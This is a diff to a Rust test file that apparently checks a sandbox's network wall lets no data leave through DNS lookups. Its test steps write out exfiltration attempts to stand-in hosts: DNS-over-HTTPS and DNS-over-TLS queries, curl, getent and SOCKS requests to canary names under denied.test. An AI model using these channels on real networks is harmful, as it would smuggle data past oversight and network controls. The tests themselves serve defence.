@@ -1,6 +1,6 @@
 //! Names: nothing leaves in a query, whoever is asked and however.
 
-use super::bench::{ALLOWED, DENIED, SINK, SINK_V6, attempt, nothing_leaves, zone};
+use super::bench::{ALLOWED, DENIED, GET, SINK, SINK_V6, attempt, nothing_leaves, zone};
 use crate::stand::{Stand, Wall};
 use fumehood_backend::conformance::Verdict;
 use serde_json::{Value, json};
@@ -31,7 +31,7 @@ fn other_coats(stand: &Stand, wall: Wall) -> Verdict {
     zone(stand);
     let doh = "GET /dns-query?dns=AAABAAABAAAAAAAABmNhbmFyeQRldmlsBHRlc3QAAAEAAQ HTTP/1.1\r\nHost: dns.denied.test\r\nConnection: close\r\n\r\n";
     let steps = json!([
-        {"tls": [SINK, 853], "sni": "dns.denied.test", "send": "CANARY"}, {"tls": ["1.1.1.1", 853], "sni": null, "send": "CANARY"},
+        {"tls": [SINK, 853], "sni": "dns.denied.test", "send": GET}, {"tls": ["1.1.1.1", 853], "sni": null, "send": GET},
         {"udp": [SINK, 853], "send": "CANARY"}, {"tls": [SINK, 443], "sni": "dns.denied.test", "send": doh},
         {"tls": ["dns.denied.test", 443], "send": doh}, {"tls": ["dns.google", 443], "send": doh},
         {"tls": ["8.8.8.8", 443], "sni": "dns.google", "send": doh},
@@ -59,9 +59,9 @@ fn resolves_nothing(stand: &Stand, wall: Wall) -> Verdict {
         {"run": ["curl", "-s", "--max-time", "4", "http://CANARY.denied.test/"]},
         {"run": ["curl", "-sk", "--max-time", "4", "https://CANARY.denied.test/"]},
         {"run": ["getent", "ahosts", "CANARY.denied.test"]},
-        {"connect": "CANARY.denied.test:443", "sni": DENIED, "send": "CANARY"},
+        {"connect": "CANARY.denied.test:443", "sni": DENIED, "send": GET},
         {"absolute": "GET http://CANARY.denied.test/ HTTP/1.1\r\nHost: CANARY.denied.test\r\n\r\n"},
-        {"socks": ["CANARY.denied.test", 80], "send": "CANARY"},
+        {"socks": ["CANARY.denied.test", 80], "send": GET},
     ]);
     nothing_leaves(stand, wall, &["--allow", ALLOWED], &steps)
 }
